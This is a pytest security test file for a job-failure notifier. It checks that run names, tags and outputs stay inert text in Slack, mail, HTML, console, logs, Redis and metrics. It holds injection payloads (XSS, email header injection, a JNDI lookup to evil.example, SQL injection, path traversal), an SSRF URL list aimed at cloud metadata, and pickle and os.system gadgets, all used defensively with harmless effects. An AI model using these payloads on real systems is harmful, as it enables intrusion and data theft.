"""What strangers write into runs stays text everywhere, and their secrets go nowhere."""

import json
import os
import pickle
import re
import subprocess
import sys
import unicodedata
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from email import message_from_bytes
from email.policy import default as default_policy
from html.parser import HTMLParser
from io import StringIO
from pathlib import Path

import pytest
from prometheus_client.parser import text_string_to_metric_families
from rich.console import Console
from rq.job import Job

from jobmon.demo.scenarios.building import RunBuilder, failed_output, notebook
from jobmon.demo.workspace import PretendRun
from jobmon.digest import Delivery, DeliveryKind, Destination
from jobmon.errors import NotAllowed
from jobmon.settings import SlackSettings
from jobmon.store.redis_store import RedisStore
from notifiers.console import ConsoleNotifier
from notifiers.slack.people import SlackReplies
from tests.flow.conftest import CHANNEL, World
from tests.jobmon.test_redact import SECRETS

STARTED = datetime.now(UTC) - timedelta(minutes=5)
RUN_ID = 501

TRICKS = (
    "<!channel>",
    "<!here|all>",
    "<@U0123456789>",
    "<!subteam^S0123456789>",
    "<#C0123456789>",
    "<https://evil.example/a|click here>",
    "https://evil.example/bare",
    "[click](https://evil.example/md)",
    "*bold* _italic_ ~gone~ `code` ```fence```",
    ":tada:",
    "\r\nBcc: thief@evil.example\r\n\r\nX-Evil: 1",
    "\x1b[31mred\x1b[0m\x1b]0;title\x07\x9b31m",
    "\u202eevil\u2066\u2069\u200b\u2028\u2029\ufeff",
    "\x00\x08\x7f\x85",
    "\ud800",
    "<script>alert(1)</script><img src=x onerror=alert(2)>",
    "\"' onmouseover='alert(3)",
    "javascript:alert(4)",
    "{{7*7}}{% raw %}${jndi:ldap://evil.example/a}#{1+1}",
    "[bold red]rich[/] [link=https://evil.example/rich]x[/link]",
    "%s%n%(x)s {0.__class__}",
    "../../../etc/passwd",
    "'; DROP TABLE incidents; --",
    "2026-01-01 00:00:00 [error    ] forged.line",
)
TRICK = " ".join(TRICKS)


def tricky_run(trick: str = TRICK) -> PretendRun:
    builder = RunBuilder(
        run_id=RUN_ID,
        job_id=7,
        name=trick,
        started_at=STARTED,
        creator=trick,
        trigger=trick,
        tags={trick: trick, "owner": trick, "environment": trick, "team": trick},
        parameters={trick: trick},
    )
    output = failed_output(trick, f"Traceback\n{trick}\nValueError: {trick}", trick)
    builder.task(trick, notebook(trick), result="FAILED", message=trick, output=output)
    builder.task(f"{trick} 2", notebook(trick), result="FAILED", message=trick, output=output)
    return builder.build(message=trick)


@pytest.fixture
def told(world: World) -> World:
    return tell(world, TRICK)


def tell(world: World, trick: str) -> World:
    world.workspace.add(tricky_run(trick))
    answer = world.fails(RUN_ID, job={"job_id": 7, "name": trick}, task={"task_key": trick})
    assert answer.status_code == 202
    world.work()
    assert len(world.slack.messages(CHANNEL)) == 1
    assert len(world.mailbox.messages) == 1
    return world


def parts(value: object, path: str = "") -> Iterator[tuple[str, dict[str, object]]]:
    """Every object in a structure of blocks."""
    if isinstance(value, dict):
        yield path, value
        for name, item in value.items():
            yield from parts(item, f"{path}.{name}")
    if isinstance(value, list | tuple):
        for item in value:
            yield from parts(item, path)


def sent_blocks(world: World) -> list[dict[str, object]]:
    found = []
    for call in world.slack.calls:
        blocks = call.arguments.get("blocks")
        if blocks:
            found += [
                part for _, part in parts(json.loads(blocks) if isinstance(blocks, str) else blocks)
            ]
    return found


def is_clean(text: str) -> bool:
    """No character that a terminal or a browser would obey."""
    return not [
        c for c in text if unicodedata.category(c) in {"Cc", "Cf", "Cs"} and c not in "\n\t"
    ]


def test_slack_markup_is_ours_alone(told: World) -> None:
    markup = [str(part["text"]) for part in sent_blocks(told) if part.get("type") == "mrkdwn"]
    fallback = [
        str(call.arguments["text"]) for call in told.slack.calls if "text" in call.arguments
    ]

    assert markup
    for text in (*markup, *fallback):
        for tag in re.findall(r"<([^>]*)>", text):
            assert tag.startswith(("!date^", told.workspace.url)), tag
        assert is_clean(text)


def test_slack_blocks_mention_and_link_nothing_of_a_strangers(told: World) -> None:
    blocks = sent_blocks(told)
    kinds = {part.get("type") for part in blocks}
    urls = [str(part["url"]) for part in blocks if "url" in part]

    assert not kinds & {"user", "usergroup", "broadcast", "channel", "link", "emoji", "image"}
    assert all(url.startswith(told.workspace.url) for url in urls)
    assert all(is_clean(str(part["text"])) for part in blocks if isinstance(part.get("text"), str))
    assert all(part["emoji"] is False for part in blocks if part.get("type") == "plain_text")


def test_buttons_carry_ids_only(told: World) -> None:
    values = [str(part["value"]) for part in sent_blocks(told) if "value" in part]

    assert values
    assert all(re.fullmatch(r"inc-[0-9a-f]+\|\d+(\|\w+)?", value) for value in values)


def test_mail_headers_are_ours_alone(told: World) -> None:
    (mail,) = told.mailbox.messages
    parsed = message_from_bytes(mail.raw, policy=default_policy)

    assert parsed["To"] == "data@example.com"
    assert not {"Bcc", "X-Evil"} & set(parsed.keys())
    assert len(parsed.get_all("Subject", [])) == 1
    assert all(is_clean(str(value)) and "\n" not in str(value) for value in parsed.values())


class Tags(HTMLParser):
    """Collects what a browser would see."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: dict[str, list[str]] = {}

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        for name, value in attrs:
            self.attributes.setdefault(name, []).append(value or "")


def test_html_holds_no_tag_or_address_of_a_strangers(told: World) -> None:
    (mail,) = told.mailbox.messages
    parsed = message_from_bytes(mail.raw, policy=default_policy)
    html = parsed.get_body(("html",))
    assert html is not None
    page = Tags()
    page.feed(html.get_content())

    assert not page.tags & {"script", "img", "iframe", "object", "form", "base", "svg"}
    assert not [name for name in page.attributes if name.startswith("on") or name == "src"]
    assert all(url.startswith(told.workspace.url) for url in page.attributes.get("href", []))
    assert "49" not in re.findall(r"\b49\b", html.get_content())


def test_plain_mail_and_attachments_hold_no_control_characters(told: World) -> None:
    (mail,) = told.mailbox.messages
    parsed = message_from_bytes(mail.raw, policy=default_policy)
    plain = parsed.get_body(("plain",))
    assert plain is not None

    assert is_clean(plain.get_content().replace("\r\n", "\n"))
    assert [part.get_filename() for part in parsed.iter_attachments()] == []


def test_the_console_shows_text_only(told: World) -> None:
    (incident,) = RedisStore(told.client).incidents()
    digest = RedisStore(told.client).digest(incident.incident_id)
    assert digest is not None
    output = StringIO()
    console = Console(file=output, force_terminal=True, width=100, color_system=None, markup=False)
    delivery = Delivery(
        delivery_id="d-1",
        destination=Destination.parse("console:"),
        kind=DeliveryKind.ROOT,
        digest=digest,
    )
    ConsoleNotifier(console).send(delivery, root=None)
    shown = re.sub(r"\x1b\[[0-9;]*m", "", output.getvalue())

    assert is_clean(shown)


def test_keys_and_metrics_hold_nothing_of_a_strangers(told: World) -> None:
    names = [key.decode() for key in told.client.scan_iter("*")]
    assert names
    assert all(re.fullmatch(r"[A-Za-z0-9:_@.,-]+", name) for name in names), names

    families = list(text_string_to_metric_families(told.web.get("/metrics").text))
    values = {
        value
        for family in families
        for sample in family.samples
        for name, value in sample.labels.items()
        if name != "le"
    }
    assert all(re.fullmatch(r"[a-z_-]+", value) for value in values)


def test_an_event_of_an_unreadable_run_stays_text_too(world: World) -> None:
    world.fails(999, job={"job_id": 7, "name": TRICK})
    world.work()

    assert len(world.slack.messages(CHANNEL)) == 1
    test_slack_markup_is_ours_alone(world)
    test_slack_blocks_mention_and_link_nothing_of_a_strangers(world)
    test_mail_headers_are_ours_alone(world)


@pytest.mark.parametrize("trick", TRICKS, ids=lambda trick: ascii(trick[:20]))
def test_each_trick_alone_stays_text_everywhere(world: World, trick: str) -> None:
    tell(world, trick)

    for check in (
        test_slack_markup_is_ours_alone,
        test_slack_blocks_mention_and_link_nothing_of_a_strangers,
        test_buttons_carry_ids_only,
        test_mail_headers_are_ours_alone,
        test_html_holds_no_tag_or_address_of_a_strangers,
        test_plain_mail_and_attachments_hold_no_control_characters,
        test_the_console_shows_text_only,
        test_keys_and_metrics_hold_nothing_of_a_strangers,
    ):
        check(world)


LOGGING = """
import sys
from jobmon.log import configure_logging
import structlog
configure_logging(sys.argv[1])
text, secret = sys.stdin.buffer.read().decode("utf-8", "surrogatepass").split("|SECRET|")
log = structlog.get_logger()
log.warning("a.b", job_name=text, number=1)
try:
    password = secret
    raise ValueError(text + " password=" + secret)
except ValueError:
    log.exception("a.c", job_name=text)
"""


@pytest.mark.parametrize("form", ["text", "json"])
def test_no_line_of_the_log_can_be_forged_and_no_local_variable_is_in_it(form: str) -> None:
    secret = "hunter2-and-more"
    done = subprocess.run(
        [sys.executable, "-c", LOGGING, form],
        input=f"{TRICK}\n2026-01-01 [error] forged.line|SECRET|{secret}".encode(
            "utf-8", "surrogatepass"
        ),
        capture_output=True,
        check=True,
        cwd=Path(__file__).parents[2],
    )
    lines = done.stderr.decode("utf-8", "surrogatepass").split("\n")

    assert secret not in done.stderr.decode("utf-8", "replace")
    assert all(is_clean(line) for line in lines)
    heads = [line for line in lines if line and not line.startswith(" ")]
    if form == "json":
        assert [json.loads(line)["event"] for line in heads] == ["a.b", "a.c"]
    else:
        assert [re.match(r"\S+ \[\w+ *\] (a\.[bc]) ", line) is not None for line in heads] == [
            True,
            True,
        ]


LONG_SECRETS = {name: pair for name, pair in SECRETS.items() if len(pair[1]) >= 7}


def everything_kept(world: World) -> str:
    """All values in Redis, in the clear."""
    client = world.client
    found: list[object] = []
    for key in client.scan_iter("*"):
        match client.type(key):
            case b"string":
                found.append(client.get(key) or b"")
            case b"list":
                found += client.lrange(key, 0, -1)
            case b"hash":
                found += [part for pair in client.hgetall(key).items() for part in pair]
            case b"zset":
                found += [member for member, _ in client.zscan_iter(key)]
            case b"set":
                found += client.smembers(key)
        found.append(key)
    return "\n".join(
        item.decode(errors="replace") if isinstance(item, bytes) else str(item) for item in found
    )


def test_no_planted_secret_is_said_kept_logged_or_counted(
    world: World, capfd: pytest.CaptureFixture[str]
) -> None:
    planted = "\n".join(text for text, _ in LONG_SECRETS.values())
    names = [text for text, _ in LONG_SECRETS.values()]
    for number, name in enumerate(names):
        builder = RunBuilder(
            run_id=1000 + number * 1000, job_id=number + 1, name=f"job {name}", started_at=STARTED,
            creator=name, tags={"note": name, "owner": name}, parameters={"p": name},
        )  # fmt: skip
        output = failed_output(f"ValueError: {planted}", f"Traceback\n{planted}", planted)
        builder.task(name, notebook(f"/x {name}"), result="FAILED", message=name, output=output)
        world.workspace.add(builder.build(message=f"failed: {name}"))
        world.fails(1000 + number * 1000, job={"name": name}, task={"task_key": name})
        waiting = everything_kept(world)
        assert not [item for item in secrets() if item in waiting]
        world.work()

    told = repr(world.slack.calls) + repr(
        [mail.message.as_string() for mail in world.mailbox.messages]
    )
    kept = everything_kept(world)
    logged = "".join(capfd.readouterr())
    counted = world.web.get("/metrics").text + world.web.get("/readyz").text
    assert len(world.slack.messages(CHANNEL)) > 2
    for place in (told, kept, logged, counted):
        assert not [item for item in secrets() if item in place]


def secrets() -> list[str]:
    return [secret for _, secret in LONG_SECRETS.values()]


SSRF = (
    "http://hooks.slack.com/commands/1",
    "https://hooks.slack.com.evil.example/1",
    "https://hooks.slack.com@evil.example/1",
    "https://evil.example/https://hooks.slack.com/1",
    "https://evil.example#hooks.slack.com",
    "https://evil.example\\@hooks.slack.com/1",
    "https://hooks.slack.com:8443/1",
    "https://HOOKS.slack.com.:443/1",
    "https://127.0.0.1/1",
    "https://169.254.169.254/latest/meta-data",
    "file:///etc/passwd",
    "gopher://hooks.slack.com/1",
    "//hooks.slack.com/1",
    "https://[::1",
    "",
)


@pytest.mark.parametrize("url", SSRF)
def test_answers_go_to_slacks_own_hosts_only(url: str) -> None:
    with pytest.raises(NotAllowed):
        SlackReplies(SlackSettings()).reply(url, "hello")


def test_an_event_of_another_workspace_makes_no_call_anywhere_else(world: World) -> None:
    body = {
        "event_type": "jobs.on_failure",
        "workspace_id": 666,
        "host": "https://evil.example",
        "run": {"run_id": 1, "run_page_url": "https://evil.example/run"},
    }
    assert world.post(body).status_code == 202
    world.work()

    assert not [call for call in world.workspace.calls if "/jobs/" in call.path]
    assert "evil.example" not in repr(world.slack.calls)


class _Bomb:
    def __init__(self, path: Path) -> None:
        self.path = path

    def __reduce__(self) -> tuple[object, tuple[str]]:
        return (os.mkdir, (str(self.path),))


def forged(world: World, **fields: object) -> None:
    """A job that somebody with access to Redis has written."""
    job_id = f"forged-{len(fields)}"
    base = {
        "created_at": "2026-01-01T00:00:00.000000Z",
        "enqueued_at": "2026-01-01T00:00:00.000000Z",
        "origin": "jobmon-soon",
        "status": "queued",
        "timeout": "10",
    }
    world.client.hset(f"rq:job:{job_id}", mapping={**base, **fields})  # type: ignore[dict-item]
    world.client.lpush("rq:queue:jobmon-soon", job_id)


def test_a_pickled_job_is_refused(world: World, tmp_path: Path) -> None:
    path = tmp_path / "opened"
    pickle.loads(pickle.dumps(_Bomb(path)))  # noqa: S301 (it does work where pickles are read)
    path.rmdir()
    forged(world, data=pickle.dumps(_Bomb(path)))
    world.work()

    assert not path.exists()


@pytest.mark.parametrize(
    "call",
    [
        ["os.system", None, ["touch {path}"], {}],
        ["workers.diagnose.os.system", None, ["touch {path}"], {}],
        ["run", "subprocess", [["touch", "{path}"]], {}],
        ["builtins.eval", None, ["open('{path}', 'w')"], {}],
        ["jobmon.queue.functions.JOB_FUNCTIONS", None, [], {}],
    ],
    ids=lambda call: str(call[0]),
)
def test_a_job_may_call_our_job_functions_only(
    world: World, tmp_path: Path, call: list[object]
) -> None:
    path = tmp_path / "opened"
    forged(world, data=json.dumps(call).replace("{path}", str(path)).encode())
    world.workspace.add(tricky_run())
    world.fails(RUN_ID)
    world.work()

    assert not path.exists()
    assert len(world.slack.messages(CHANNEL)) == 1


def test_nothing_of_ours_reads_pickles() -> None:
    root = Path(__file__).parents[2]
    ours = [path for room in ("jobmon", "webhook", "workers", "notifiers", "rules")
            for path in (root / room).rglob("*.py")]  # fmt: skip
    readers = re.compile(r"\b(pickle|marshal|shelve|yaml\.load|eval|exec)\b\s*[.(]|import pickle")

    assert not [path for path in ours if readers.search(path.read_text(encoding="utf-8"))]
    assert Job.__module__ == "rq.job"
